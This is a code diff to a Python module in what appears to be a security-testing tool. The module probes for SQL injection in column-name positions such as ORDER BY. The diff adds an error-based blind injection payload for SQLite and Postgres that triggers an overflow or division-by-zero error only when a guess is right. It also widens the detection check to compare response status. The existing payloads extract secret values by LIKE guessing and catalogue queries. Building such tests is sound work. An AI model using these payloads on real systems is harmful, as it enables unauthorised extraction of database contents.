@@ -1,7 +1,8 @@
 """I01: SQL where a column's name is expected. The order of a list answers questions."""
 
-from collections.abc import Sequence
+from collections.abc import Mapping, Sequence
 from functools import partial
+from types import MappingProxyType
 from typing import Final
 
 from ringfence.attack.answer import Answer
@@ -14,6 +15,13 @@ from ringfence.attack.unproven import require
 _BY_CASE: Final = "(CASE WHEN EXISTS ({question}) THEN {number} ELSE -{number} END)"
 _BY_PRODUCT: Final = (
     "{number} * (1 - 2 * (SELECT count(*) FROM {table} WHERE {column} LIKE '{guess}%'))"
+)
+#: An expression that fails if the guess is right, and only then.
+_BY_ERROR: Final[Mapping[str, str]] = MappingProxyType(
+    {
+        "sqlite": "(CASE WHEN EXISTS ({question}) THEN abs(-9223372036854775807 - 1) ELSE 1 END)",
+        "postgres": "(CASE WHEN EXISTS ({question}) THEN 1 / ({number} - {number}) ELSE 1 END)",
+    }
 )
 _NOTE: Final = "SELECT 1 FROM {table} WHERE {column} LIKE '{guess}%'"
 _CATALOGUES: Final = {
@@ -42,10 +50,12 @@ class SqlInAColumn(Attack):
     def payloads(self) -> Sequence[Payload]:
         note = _BY_CASE.replace("{question}", _NOTE)
         tables = _BY_CASE.replace("{question}", _CATALOGUES[self.ground.site.database])
+        failing = _BY_ERROR[self.ground.site.database].replace("{question}", _NOTE)
         table = self.column.secret.table
         return [
             Payload("CASE over a text", partial(self._tells, note, self.canary)),
             Payload("arithmetic over a count", partial(self._tells, _BY_PRODUCT, self.canary)),
+            Payload("an error, or none", partial(self._tells, failing, self.canary)),
             Payload("CASE over the catalogue", partial(self._tells, tables, table)),
         ]
 
@@ -53,7 +63,7 @@ class SqlInAColumn(Attack):
         """Whether a true guess and a false one can be told apart."""
         right = await self._sorted(self._filled(expression, truth))
         wrong = await self._sorted(self._filled(expression, self.other))
-        return right.ok and wrong.ok and right.body != wrong.body
+        return wrong.ok and (right.status != wrong.status or right.body != wrong.body)
 
     def _filled(self, expression: str, guess: str) -> str:
         place = self.column
